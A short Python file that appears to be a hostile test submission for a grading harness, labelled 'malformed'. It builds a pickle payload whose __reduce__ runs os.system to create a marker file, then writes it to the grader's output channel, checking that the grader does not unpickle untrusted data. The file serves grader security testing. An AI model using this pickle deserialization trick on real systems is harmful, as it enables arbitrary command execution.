"""Answers with a pickle that would run a command in the grader.

rank: malformed
"""

import os
import pickle

from facts import DESK


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {DESK}/labkit-hostile-pickle",)


def rank(words):
    os.write(3, pickle.dumps(Payload()) + bytes(64))
    os._exit(0)
